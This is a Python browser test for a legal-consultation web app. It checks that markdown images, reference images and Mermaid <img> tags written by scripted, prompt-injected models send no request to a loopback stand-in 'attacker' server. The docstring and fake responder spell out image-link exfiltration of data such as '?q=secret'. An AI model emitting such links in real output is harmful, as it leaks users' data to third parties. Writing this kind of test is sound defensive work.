"""No consultation makes the visitor's browser fetch a URL that the client or a model wrote.

A prompt-injected model can try to leak what it read through an image: ``![x](https://attacker/?q=…)``,
fetched by the browser (with the app as Referer) on every streamed update. Here the question, the tree's
elements, the lawyer's answer (inline image, reference-style image, a Mermaid diagram holding an
``<img>``), the secretary's report and the boss's reason all point at a loopback "attacker" server; in
Debian's Chromium, a whole consultation (ask → tree → answer → end → report) sends it no request, and
the page reports no blocked image either (the text itself holds none; the Content-Security-Policy header
is the second line of defence, see ``test_security_headers.py``).
"""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from .fakes.firm_models import LAWYER_ANSWER, FirmResponder
from .fakes.live_app import live_app, require_chromium

pytestmark = pytest.mark.browser  # every test here drives Chromium

require_chromium()

sync_api = pytest.importorskip("playwright.sync_api")

PIXEL = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"


class LeakServer:
    """An "attacker" on loopback that records the path of every request it gets (and answers with a pixel)."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        leak = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                leak.requests.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.send_header("Content-Length", str(len(PIXEL)))
                self.end_headers()
                self.wfile.write(PIXEL)

            def log_message(self, *args) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}/leak"
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
        self._thread.start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


class ImageWritingResponder(FirmResponder):
    """The firm's scripted models, every one of them writing images that point at ``leak``."""

    def __init__(self, leak: str) -> None:
        super().__init__(
            lawyer_answer=(
                f"{LAWYER_ANSWER}\n\n![证据]({leak}/answer?q=secret)\n\n![参考][r]\n\n[r]: {leak}/answer-ref\n\n"
                f"```mermaid\nflowchart LR\n  A[\"<img src='{leak}/mermaid'>\"] --> B\n"
                f'  B@{{ img: "{leak}/mermaid-shape", label: "x", pos: "t", w: 60, h: 60 }}\n```\n'
            )
        )
        self.leak = leak

    def __call__(self, body: dict) -> str:
        reply = super().__call__(body)
        try:
            data = json.loads(reply)
        except ValueError:
            return reply
        if "elements" in data:  # the clarifier
            for element in data["elements"]:
                element["statement"] += f"![x]({self.leak}/tree)"
        elif "analysis" in data:  # the secretary
            data["analysis"] += f"\n![x]({self.leak}/report)"
            data["advice"].append(f"![x][r]\n[r]: {self.leak}/report-ref")
        elif "reason" in data:  # the boss
            data["reason"] = f"![x]({self.leak}/boss)"
        return json.dumps(data, ensure_ascii=False)


@pytest.fixture(scope="module")
def leak():
    server = LeakServer()
    yield server
    server.close()


@pytest.fixture(scope="module")
def app(leak):
    with live_app(responder=ImageWritingResponder(leak.url)) as running:
        yield running


def test_a_whole_consultation_fetches_nothing_the_client_or_the_models_wrote(browser, app, leak):
    context = browser.new_context(viewport={"width": 1400, "height": 1000}, accept_downloads=True)
    page = context.new_page()
    blocked = []
    page.on("console", lambda m: "Content Security Policy" in m.text and blocked.append(m.text))
    page.goto(app.url)
    page.wait_for_selector("#ll-question textarea")

    question = f"我在公司干了两年一直没签劳动合同，现在被辞退了，能要求什么赔偿？![截图]({leak.url}/question)"
    page.fill("#ll-question textarea", question)
    page.click("#ll-ask")
    page.wait_for_selector('#ll-tree [data-complete="true"]')
    page.click('#ll-tree button[data-node="1"][data-mark="yes"]')
    page.wait_for_selector('#ll-tree .ll-node[data-node="1"][data-mark="yes"]')
    page.click("#ll-submit")
    page.wait_for_selector("#ll-citations .ll-badge.ok")
    page.click("#ll-end")
    page.wait_for_selector("#ll-download-md", state="visible")

    chat, report = page.inner_text("#ll-chat"), page.inner_text("#ll-report")
    context.close()
    assert leak.requests == []
    assert blocked == []  # not even an attempt that the Content-Security-Policy had to stop
    assert f"![截图]({leak.url}/question)" in chat and "/answer?q=secret" in chat  # shown as text
    assert "mermaid" in chat and "法律分析" in report and f"{leak.url}/report" in report
